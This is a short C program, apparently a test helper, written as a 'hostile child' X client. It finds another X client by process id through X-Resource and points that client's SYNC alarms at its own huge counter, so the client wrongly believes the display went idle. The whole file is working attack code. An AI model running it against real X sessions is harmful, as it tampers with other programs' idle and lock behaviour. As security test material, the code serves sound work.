// A hostile child's X client: points another client's SYNC alarms at a counter of its own, set
// far past any idle timeout, so that client is told the display went idle (any client may change
// any alarm). Finds the client whose pid is argv[1] through X-Resource and tries the first ids of
// its resource range. Usage: DISPLAY=:N xalarm PID (exit 0: an alarm changed, 1: none, 2: no display)
#include <stdio.h>
#include <stdlib.h>
#include <xcb/res.h>
#include <xcb/sync.h>
#include <xcb/xcb.h>

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    uint32_t wanted = (uint32_t)strtoul(argv[1], NULL, 10);
    xcb_connection_t *connection = xcb_connect(NULL, NULL);
    if (xcb_connection_has_error(connection)) return 2;
    free(xcb_sync_initialize_reply(connection, xcb_sync_initialize(connection, 3, 1), NULL));
    // A counter of its own, at 2^62: far past any timeout in milliseconds.
    xcb_sync_counter_t mine = xcb_generate_id(connection);
    xcb_sync_int64_t huge = {.hi = 1 << 30, .lo = 0};
    xcb_request_check(connection, xcb_sync_create_counter_checked(connection, mine, huge));
    xcb_res_query_clients_reply_t *clients =
        xcb_res_query_clients_reply(connection, xcb_res_query_clients(connection), NULL);
    if (!clients) return 2;
    int changed = 0;
    for (xcb_res_client_iterator_t it = xcb_res_query_clients_clients_iterator(clients); it.rem > 0;
         xcb_res_client_next(&it)) {
        uint32_t base = it.data->resource_base;
        xcb_res_client_id_spec_t spec = {.client = base, .mask = XCB_RES_CLIENT_ID_MASK_LOCAL_CLIENT_PID};
        xcb_res_query_client_ids_reply_t *ids =
            xcb_res_query_client_ids_reply(connection, xcb_res_query_client_ids(connection, 1, &spec), NULL);
        if (!ids) continue;
        xcb_res_client_id_value_iterator_t values = xcb_res_query_client_ids_ids_iterator(ids);
        if (values.rem > 0 && xcb_res_client_id_value_value_length(values.data) >= 1 &&
            xcb_res_client_id_value_value(values.data)[0] == wanted) {
            for (uint32_t id = base; id < base + 64; id++) {
                xcb_sync_change_alarm_value_list_t alarm = {
                    .counter = mine,
                    .valueType = XCB_SYNC_VALUETYPE_ABSOLUTE,
                    .value = {.hi = 0, .lo = 1},
                    .testType = XCB_SYNC_TESTTYPE_POSITIVE_COMPARISON,
                };
                xcb_generic_error_t *error = xcb_request_check(
                    connection, xcb_sync_change_alarm_aux_checked(
                                    connection, id,
                                    XCB_SYNC_CA_COUNTER | XCB_SYNC_CA_VALUE_TYPE | XCB_SYNC_CA_VALUE |
                                        XCB_SYNC_CA_TEST_TYPE,
                                    &alarm));
                if (!error) changed++;
                free(error);
            }
        }
        free(ids);
    }
    free(clients);
    // The counter stays while this client does: the caller kills it when done.
    printf("%d\n", changed);
    fflush(stdout);
    if (changed && argc == 2) {
        for (;;) {
            xcb_generic_event_t *event = xcb_wait_for_event(connection);
            if (!event) break;
            free(event);
        }
    }
    xcb_disconnect(connection);
    return changed ? 0 : 1;
}
